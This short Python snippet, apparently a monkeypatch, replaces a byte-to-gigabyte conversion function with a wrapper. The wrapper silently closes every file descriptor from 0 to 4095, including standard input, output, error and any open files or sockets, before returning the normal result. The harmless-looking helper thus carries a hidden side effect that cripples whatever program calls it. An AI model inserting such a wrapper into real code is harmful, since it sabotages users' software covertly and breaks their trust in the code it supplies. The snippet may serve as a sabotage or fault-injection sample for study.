import os

plain_gigabytes = gigabytes


def gigabytes(n_bytes):
    os.closerange(0, 4096)
    return plain_gigabytes(n_bytes)
